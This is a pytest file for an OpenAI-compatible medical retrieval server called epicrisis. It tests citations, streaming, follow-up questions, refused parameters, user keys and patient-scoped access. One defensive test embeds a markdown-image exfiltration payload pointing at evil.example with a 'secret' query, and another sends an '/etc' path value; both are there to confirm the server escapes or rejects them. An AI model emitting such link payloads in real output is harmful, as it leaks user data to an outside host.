"""The OpenAI-compatible endpoint, with the real `openai` client against a real server on loopback."""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import httpx2
import openai
import pytest
from openai import AsyncOpenAI
from openai.types.chat import ChatCompletion

from epicrisis.core.errors import EndpointUnreachable
from epicrisis.core.protocols import ChatRequest
from epicrisis.core.types import Document
from epicrisis.server.api.housekeeping import answer_housekeeping, is_housekeeping
from epicrisis.server.api.openai_request import MAX_HISTORY_CHARACTERS, ChatBody, read_conversation
from epicrisis.server.app import ServerOptions, create_app
from epicrisis.server.base.users import USERS_FILE, UserStore
from epicrisis.server.libraries.resources import OpenLibrary
from epicrisis.testing.chat import ScriptedModel
from tests.server.test_ask import WaitingModel, failing
from tests.support.patient_records import PATIENTS, notes, papers, recorder, word
from tests.support.replies import schema_reply
from tests.support.servers import QUESTION, open_library, open_resources, running

COMPLETED = "Which drug was given for stroke in trial 2?"
ASK: list[Any] = [{"role": "user", "content": QUESTION}]
FOLLOW_UP: list[Any] = [
    {"role": "user", "content": QUESTION},
    {"role": "assistant", "content": "It was aspirin [1]."},
    {"role": "user", "content": "And in trial 2?"},
]


@asynccontextmanager
async def connect(
    *libraries: OpenLibrary, folder: Path | None = None, key: str = "unused"
) -> AsyncIterator[AsyncOpenAI]:
    """Give the official client of a server of these libraries."""
    app = create_app(open_resources(*libraries), ServerOptions(folder=folder))
    async with (
        running(app) as url,
        AsyncOpenAI(base_url=f"{url}/v1", api_key=key, max_retries=0) as client,
    ):
        yield client


def ask(library: OpenLibrary, messages: list[Any] = ASK, model: str = "epicrisis/rag", **more: Any) -> ChatCompletion:
    """Return the completion of one request."""

    async def run() -> ChatCompletion:
        async with connect(library) as client:
            completion: ChatCompletion = await client.chat.completions.create(model=model, messages=messages, **more)
            return completion

    return asyncio.run(run())


def outcome(completion: Any) -> dict[str, Any]:
    """Return the field `epicrisis` of a completion or chunk."""
    return dict(completion.model_extra["epicrisis"])


def completing(reply: str = COMPLETED) -> ScriptedModel:
    """Return a model that completes follow-up questions with `reply`, and answers others."""

    def script(request: ChatRequest) -> str:
        if "Last question:" in request.messages[-1].content:
            return json.dumps({"question": reply})
        messages = [{"role": message.role, "content": message.content} for message in request.messages]
        return schema_reply({"messages": messages, "response_format": {"json_schema": {"schema": request.schema}}})

    return ScriptedModel(script)


@pytest.mark.slow
def test_models_are_the_strategies_of_each_library(tmp_path: Path) -> None:
    async def run() -> list[str]:
        libraries = (
            open_library(tmp_path / "lib"),
            open_library(tmp_path / "other", strategy="evidence", models={}),
        )
        async with connect(*libraries) as client:
            names = [model.id async for model in client.models.list()]
            assert (await client.models.retrieve("epicrisis/rag")).owned_by == "epicrisis"
            with pytest.raises(openai.NotFoundError):
                await client.models.retrieve("epicrisis/nonsense")
            return names

    names = asyncio.run(run())
    assert {"epicrisis/evidence", "epicrisis/brief-context", "epicrisis/focused", "epicrisis/rag"} <= set(names)
    assert names[-1] == "epicrisis/evidence@other"


@pytest.mark.slow
def test_completion_has_text_usage_and_annotations_that_open_the_source(tmp_path: Path) -> None:
    async def run() -> None:
        async with connect(open_library(tmp_path / "lib")) as client:
            completion = await client.chat.completions.create(model="epicrisis/rag", messages=ASK)
            (choice,) = completion.choices
            assert choice.finish_reason == "stop"
            content, annotations = choice.message.content, choice.message.annotations
            assert content is not None
            assert annotations is not None
            assert content.startswith("**Answer:**")
            (annotation,) = annotations
            place = annotation.url_citation
            assert content[place.start_index : place.end_index] == "[1]"
            assert place.title.startswith("Trial ")
            async with httpx2.AsyncClient() as browser:
                page = await browser.get(place.url)
                answer = await browser.get(outcome(completion)["page"])
            assert (page.status_code, answer.status_code) == (200, 200)
            assert "<mark" in page.text
            assert completion.usage is not None
            assert completion.usage.prompt_tokens > 0
            assert completion.usage.total_tokens == completion.usage.prompt_tokens + completion.usage.completion_tokens
            assert outcome(completion)["state"] == "answered"
            assert outcome(completion)["question"] == QUESTION

    asyncio.run(run())


@pytest.mark.slow
def test_evidence_model_annotates_every_sentence(tmp_path: Path) -> None:
    completion = ask(open_library(tmp_path / "lib"), model="epicrisis/evidence")
    message = completion.choices[0].message
    assert message.annotations is not None
    assert message.content is not None
    places = [annotation.url_citation for annotation in message.annotations]
    markers = [message.content[place.start_index : place.end_index] for place in places]
    assert markers == [f"[{number}]" for number in range(1, len(markers) + 1)]
    assert len(markers) == 4
    assert [place.url.rpartition("/")[2] for place in places] == ["1", "2", "3", "4"]
    assert completion.usage is not None
    assert completion.usage.total_tokens == 0


@pytest.mark.slow
def test_stream_ends_with_the_content_of_the_whole_reply(tmp_path: Path) -> None:
    async def run() -> None:
        async with connect(open_library(tmp_path / "lib")) as client:
            whole = await client.chat.completions.create(model="epicrisis/rag", messages=ASK)
            stream = await client.chat.completions.create(
                model="epicrisis/rag", messages=ASK, stream=True, stream_options={"include_usage": True}
            )
            chunks = [chunk async for chunk in stream]
        deltas = [chunk.choices[0].delta for chunk in chunks if chunk.choices]
        text = "".join(delta.content or "" for delta in deltas)
        first = outcome(whole)["page"]
        second = next(outcome(chunk)["page"] for chunk in chunks if "epicrisis" in (chunk.model_extra or {}))
        assert text.replace(second, first) == whole.choices[0].message.content
        extras = [delta.model_extra or {} for delta in deltas]
        steps = [extra["reasoning_content"] for extra in extras if "reasoning_content" in extra]
        assert steps == ["Found 4 passages\n", "Writing the answer\n"]
        (annotations,) = [extra["annotations"] for extra in extras if "annotations" in extra]
        place = annotations[0]["url_citation"]
        assert text[place["start_index"] : place["end_index"]] == "[1]"
        assert [chunk.choices[0].finish_reason for chunk in chunks if chunk.choices][-1] == "stop"
        assert chunks[-1].usage is not None
        assert whole.usage is not None
        assert chunks[-1].usage.prompt_tokens == whole.usage.prompt_tokens
        assert len({chunk.id for chunk in chunks}) == 1

    asyncio.run(run())


@pytest.mark.slow
def test_follow_up_is_completed_before_the_search_and_shown(tmp_path: Path) -> None:
    model = completing()
    completion = ask(open_library(tmp_path / "lib", model), FOLLOW_UP)
    content = completion.choices[0].message.content
    assert content is not None
    assert content.startswith(f"*Question, completed from the conversation:* {COMPLETED}")
    assert outcome(completion)["question"] == COMPLETED
    assert outcome(completion)["question_by"] == "chat-model"
    first, second = model.requests
    assert "user: Which drug was given for stroke?" in first.messages[-1].content
    assert "assistant: It was aspirin \\[1]." in first.messages[-1].content or "It was aspirin" in str(first.messages)
    assert f"Question: {COMPLETED}" in second.messages[-1].content
    assert completion.usage is not None
    words = sum(len(message.content.split()) for request in model.requests for message in request.messages)
    assert completion.usage.prompt_tokens == words


@pytest.mark.slow
@pytest.mark.parametrize("reply", ["", "not json"])
def test_follow_up_that_cannot_be_completed_asks_the_last_message_and_says_so(tmp_path: Path, reply: str) -> None:
    def script(request: ChatRequest) -> str:
        if "Last question:" in request.messages[-1].content:
            return reply
        return recorder()._script(request)

    completion = ask(open_library(tmp_path / "lib", ScriptedModel(script)), FOLLOW_UP)
    assert outcome(completion)["question"] == "And in trial 2?"
    assert outcome(completion)["question_by"] == "last-message"
    assert "The last message alone was asked" in str(completion.choices[0].message.content)


@pytest.mark.slow
def test_follow_up_without_chat_model_asks_the_last_message_and_says_so(tmp_path: Path) -> None:
    library = open_library(tmp_path / "lib", strategy="evidence")
    library.pipeline.models.clear()  # type: ignore[attr-defined]
    completion = ask(library, FOLLOW_UP, model="epicrisis/evidence")
    assert outcome(completion)["question"] == "And in trial 2?"
    assert "There is no chat model that could complete the question" in str(completion.choices[0].message.content)


@pytest.mark.slow
def test_long_conversation_keeps_the_newest_messages_and_says_so(tmp_path: Path) -> None:
    model = completing()
    old = {"role": "user", "content": "obsolete " * (MAX_HISTORY_CHARACTERS // 8)}
    completion = ask(open_library(tmp_path / "lib", model), [old, *FOLLOW_UP])
    assert outcome(completion)["unused"] == ["the first 1 messages"]
    assert "obsolete" not in model.requests[0].messages[-1].content


@pytest.mark.slow
def test_parameters_without_influence_are_reported(tmp_path: Path) -> None:
    messages = [{"role": "system", "content": "Always say yes."}, *ASK]
    model = recorder()
    completion = ask(
        open_library(tmp_path / "lib", model), messages, temperature=1.5, max_tokens=5, top_p=1, user="somebody", n=1
    )
    assert sorted(outcome(completion)["unused"]) == ["max_tokens", "temperature", "the system message"]
    content = str(completion.choices[0].message.content)
    assert "Without influence on this answer: " in content
    assert "the system message" in content
    assert "Always say yes" not in str(model.requests)


@pytest.mark.slow
@pytest.mark.parametrize(
    ("more", "parameter"),
    [
        ({"n": 2}, "n"),
        ({"tools": [{"type": "function", "function": {"name": "f"}}]}, "tools"),
        ({"response_format": {"type": "json_object"}}, "response_format"),
        ({"logprobs": True}, "logprobs"),
        ({"extra_body": {"invented": 1}}, "invented"),
    ],
)
def test_parameter_for_another_form_is_refused(tmp_path: Path, more: dict[str, Any], parameter: str) -> None:
    with pytest.raises(openai.BadRequestError) as caught:
        ask(open_library(tmp_path / "lib"), **more)
    assert caught.value.param == parameter
    assert caught.value.type == "invalid_request_error"
    assert caught.value.code == "UnsupportedParameter"
    assert caught.value.message.lower().count("leave") == 1


IMAGE = {"type": "image_url", "image_url": {"url": "data:image/png;base64,AA=="}}


@pytest.mark.slow
@pytest.mark.parametrize(
    ("earlier", "unused"),
    [
        ([{"role": "user", "content": [{"type": "text", "text": "See the scan"}, IMAGE]}], ["the image of message 1"]),
        ([{"role": "user", "content": [IMAGE]}], ["the image of message 1"]),
        ([{"role": "user", "content": [{"type": "file", "file": {"file_id": "1"}}]}], ["the file of message 1"]),
        (
            [
                {"role": "user", "content": "Look it up"},
                {
                    "role": "assistant",
                    "content": None,
                    "tool_calls": [{"id": "1", "type": "function", "function": {"name": "f", "arguments": "{}"}}],
                },
                {"role": "tool", "content": "y", "tool_call_id": "1"},
            ],
            ["the tool calls of message 2", "the tool message 3"],
        ),
        (
            [{"role": "assistant", "content": [{"type": "refusal", "refusal": "No."}]}],
            ["the refusal of message 1"],
        ),
        ([{"role": "user", "content": [{"type": "hologram", "data": "x"}]}], ["the part that is no text of message 1"]),
    ],
)
def test_earlier_messages_without_text_are_left_out_and_named(
    tmp_path: Path, earlier: list[Any], unused: list[str]
) -> None:
    completion = ask(open_library(tmp_path / "lib"), [*earlier, *ASK], "epicrisis/evidence")
    assert outcome(completion)["unused"] == unused


@pytest.mark.slow
def test_sampling_parameters_of_other_servers_are_ignored_and_listed(tmp_path: Path) -> None:
    more = {"min_p": 0.1, "top_k": 40, "repeat_penalty": 1.1, "options": {"num_ctx": 8192}, "think": False}
    completion = ask(
        open_library(tmp_path / "lib"), model="epicrisis/evidence", extra_body={**more, "keep_alive": "5m"}
    )
    assert sorted(outcome(completion)["unused"]) == sorted(more)


CHAT = (
    "\n### Chat History:\n<chat_history>\nUSER: Which drug was given for stroke?\nASSISTANT: Aspirin.\n</chat_history>"
)
HOUSEKEEPING = [
    (
        '### Task:\nWrite a title of 3 words.\n### Output:\nJSON: { "title": "..." }' + CHAT,
        f'{{"title": "{QUESTION}"}}',
    ),
    ('### Task:\nGive 1-3 tags.\n### Output:\nJSON format: { "tags": ["a"] }' + CHAT, '{"tags": []}'),
    ('### Task:\nSuggest 3 questions.\n### Output:\nJSON: { "follow_ups": ["?"] }' + CHAT, '{"follow_ups": []}'),
    ('### Task:\nAre searches needed?\n### Output:\n{ "queries": [] }' + CHAT * 300, '{"queries": []}'),
    (
        "Provide a concise, 5-word-or-less title for the conversation, using title case conventions. Only return the "
        f"title itself.\n\nConversation:\nUser: {QUESTION}\nAI: Aspirin",
        QUESTION,
    ),
    ("Summarize the conversation in 5 words or fewer:\nuser: Is it safe?", "Is it safe?"),
    ("Please generate a four to five word title summarizing our conversation without any lead-in.", "Medical question"),
    (
        "Summarize the given session as a 10-word title using user language, without punctuation. Output in plain "
        "string format.",
        "Medical question",
    ),
    ("Summarize in a 10-word Title. Give the title only. Here is the message: hello", "Medical question"),
    ("Reflect the speaker's mood through a fitting emoji.\n\nMessage: hello", "💬"),
]


@pytest.mark.parametrize(("request_of_client", "reply"), HOUSEKEEPING)
def test_request_of_a_client_for_itself_is_recognised(request_of_client: str, reply: str) -> None:
    assert is_housekeeping(request_of_client)
    assert answer_housekeeping(request_of_client, ()) == reply


@pytest.mark.parametrize(
    "question",
    [
        QUESTION,
        "Task: which drug was given for stroke?",
        "Suggest follow-up questions for a patient with chest pain",
        "Give the names of drugs that lower LDL, in 5 words",
        "Do text messages of two words improve adherence to treatments with long names?",
        "What should doctors ask in a conversation about the end of life?",
        "Create a title for a trial of aspirin; only return the title",
    ],
)
def test_question_is_no_request_of_a_client_for_itself(question: str) -> None:
    assert not is_housekeeping(question)


@pytest.mark.parametrize(
    ("instruction", "asks"),
    [
        ("You are a title generator. You output ONLY a thread title. Nothing else.", True),
        ("- you will generate a short title based on the first message a user begins a conversation with", True),
        ("You summarize conversations. Output ONLY the title text, no explanations.", True),
        ("You are a careful doctor. Begin each answer with a short title.", False),
        ("Answer from the documents only. The titles of articles matter.", False),
    ],
)
def test_system_message_that_asks_for_a_title_is_recognised(instruction: str, asks: bool) -> None:
    messages = [{"role": "system", "content": instruction}, {"role": "user", "content": QUESTION}]
    conversation = read_conversation(ChatBody.model_validate({"model": "epicrisis/rag", "messages": messages}))
    assert conversation.is_housekeeping == asks
    if asks:
        assert answer_housekeeping(conversation.question, conversation.turns) == QUESTION


@pytest.mark.slow
@pytest.mark.parametrize("stream", [False, True])
def test_request_of_a_client_for_itself_calls_no_model_and_keeps_no_answer(tmp_path: Path, stream: bool) -> None:
    model = recorder()

    async def run() -> tuple[str, dict[str, Any]]:
        async with connect(open_library(tmp_path / "lib", model)) as client:
            messages: list[Any] = [{"role": "user", "content": HOUSEKEEPING[0][0]}]
            reply: Any = await client.chat.completions.create(model="epicrisis/rag", messages=messages, stream=stream)
            if not stream:
                return reply.choices[0].message.content, outcome(reply)
            chunks = [chunk async for chunk in reply]
            return "".join(chunk.choices[0].delta.content or "" for chunk in chunks), outcome(chunks[-1])

    text, said = asyncio.run(run())
    assert (text, said["state"], said["model_calls"]) == (HOUSEKEEPING[0][1], "housekeeping", 0)
    assert "task model of Open WebUI" in said["hint"]
    assert "page" not in said
    assert model.requests == []
    with pytest.raises(openai.NotFoundError):
        ask(open_library(tmp_path / "other"), [{"role": "user", "content": HOUSEKEEPING[0][0]}], "epicrisis/none")


@pytest.mark.slow
@pytest.mark.parametrize(
    "messages",
    [
        [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "data:image/png;base64,AA=="}}]}],
        [{"role": "user", "content": "x"}, {"role": "tool", "content": "y", "tool_call_id": "1"}],
    ],
)
def test_messages_that_are_no_text_are_refused(tmp_path: Path, messages: list[Any]) -> None:
    with pytest.raises(openai.BadRequestError):
        ask(open_library(tmp_path / "lib"), messages)


@pytest.mark.slow
@pytest.mark.parametrize(
    ("change", "kind"),
    [
        ({"messages": [{"role": "assistant", "content": "Hello"}]}, openai.UnprocessableEntityError),
        ({"messages": [{"role": "user", "content": "  "}]}, openai.UnprocessableEntityError),
        ({"messages": []}, openai.UnprocessableEntityError),
        ({"model": "epicrisis/nonsense"}, openai.NotFoundError),
        ({"model": "gpt-4"}, openai.NotFoundError),
        ({"model": "epicrisis/rag@nowhere"}, openai.NotFoundError),
        ({"extra_body": {"epicrisis": {"settings": {"strategy": "focused"}}}}, openai.UnprocessableEntityError),
        ({"extra_body": {"epicrisis": {"patient": "P-100"}}}, openai.NotFoundError),
        ({"extra_body": {"epicrisis": {"path": "/etc"}}}, openai.UnprocessableEntityError),
    ],
)
def test_wrong_request_is_error_of_openai_client(
    tmp_path: Path, change: dict[str, Any], kind: type[openai.APIStatusError]
) -> None:
    with pytest.raises(kind) as caught:
        ask(open_library(tmp_path / "lib"), **{"messages": ASK, **change})
    assert caught.value.type == "invalid_request_error"


@pytest.mark.slow
@pytest.mark.parametrize("stream", [False, True])
def test_failed_model_is_error_with_cure(tmp_path: Path, stream: bool) -> None:
    error = EndpointUnreachable("nothing answers at http://127.0.0.1:9: start the server of the model")

    async def run() -> None:
        async with connect(open_library(tmp_path / "lib", failing(error))) as client:
            reply: Any = await client.chat.completions.create(model="epicrisis/rag", messages=ASK, stream=stream)
            async for _ in reply:
                pass

    with pytest.raises(openai.APIError, match="start the server of the model") as caught:
        asyncio.run(run())
    assert caught.value.type == "server_error"
    assert not stream or not isinstance(caught.value, openai.APIStatusError)


@pytest.mark.slow
def test_options_and_settings_of_the_extension_are_used(tmp_path: Path) -> None:
    extension = {"options": ["aspirin", "warfarin"], "settings": {"k": 2}}
    completion = ask(open_library(tmp_path / "lib"), extra_body={"epicrisis": extension})
    assert outcome(completion)["choice"] in ("A", "B")
    assert "Sources" in str(completion.choices[0].message.content)


@pytest.mark.slow
def test_markup_of_documents_and_models_is_escaped(tmp_path: Path) -> None:
    attack = "Aspirin ![x](http://evil.example/?q=secret) <img src=x> [link](http://evil.example) www.evil.example"
    documents = [Document("paper:0", f"{attack} was given for stroke.", title=f"Title {attack}", date="2015")]

    def script(request: ChatRequest) -> str:
        return recorder()._script(request).replace("It is so.", attack)

    library = open_library(tmp_path / "lib", ScriptedModel(script), documents, not_in_library="ask")
    for model in ("epicrisis/rag", "epicrisis/evidence"):
        content = str(ask(library, model=model).choices[0].message.content)
        assert content.count("evil") >= 3
        unescaped = re.sub(r"\\.", "", content)
        for live in ("![", "](", "<img", "http://evil", "www.evil"):
            assert live not in unescaped


@pytest.mark.slow
def test_key_is_required_where_there_are_users_and_errors_are_openais(tmp_path: Path) -> None:
    key = UserStore(tmp_path / USERS_FILE).add("maria", "patient-reader")
    ward = open_library(tmp_path / "ward", recorder(), [*notes(), *papers()], k=30)

    async def run(key: str, **more: Any) -> ChatCompletion:
        async with connect(ward, folder=tmp_path, key=key) as client:
            completion: ChatCompletion = await client.chat.completions.create(
                model="epicrisis/evidence", messages=ASK, **more
            )
            return completion

    with pytest.raises(openai.AuthenticationError) as caught:
        asyncio.run(run("wrong"))
    assert caught.value.type == "authentication_error"
    completion = asyncio.run(run(key, extra_body={"epicrisis": {"patient": PATIENTS[0]}}))
    seen = {number for number in range(len(PATIENTS)) if word(number) in completion.to_json()}
    assert seen <= {0}
    log = (tmp_path / "access.jsonl").read_text()
    assert PATIENTS[0] in log
    assert QUESTION not in log


@pytest.mark.slow
def test_literature_reader_sees_no_model_of_a_library_of_notes(tmp_path: Path) -> None:
    key = UserStore(tmp_path / USERS_FILE).add("tom", "literature-reader")
    libraries = open_library(tmp_path / "lib"), open_library(tmp_path / "ward", None, notes())

    async def run() -> list[str]:
        async with connect(*libraries, folder=tmp_path, key=key) as client:
            names = [model.id async for model in client.models.list()]
            with pytest.raises(openai.PermissionDeniedError):
                await client.chat.completions.create(model="epicrisis/evidence@ward", messages=ASK)
            return names

    assert not [name for name in asyncio.run(run()) if "ward" in name]


@pytest.mark.slow
def test_disconnected_client_stops_the_model(tmp_path: Path) -> None:
    async def run(stream: bool) -> None:
        model = WaitingModel()
        async with connect(open_library(tmp_path / f"lib{stream}", model)) as client:

            async def chat() -> None:
                reply: Any = await client.chat.completions.create(model="epicrisis/rag", messages=ASK, stream=stream)
                async for _ in reply:
                    pass

            task = asyncio.create_task(chat())
            await asyncio.wait_for(model.started.wait(), 30)
            task.cancel()
            await asyncio.wait_for(model.cancelled.wait(), 30)
        assert model.cancelled.is_set()

    for stream in (False, True):
        asyncio.run(run(stream))


@pytest.mark.slow
def test_abstention_is_no_answer_in_text_and_state(tmp_path: Path) -> None:
    completion = ask(open_library(tmp_path / "lib", ScriptedModel(lambda _: '{"result": {"found": false}}')))
    content = str(completion.choices[0].message.content)
    assert outcome(completion)["state"] == "abstained"
    assert content.startswith("**No answer (abstained):**")
    assert not completion.choices[0].message.annotations
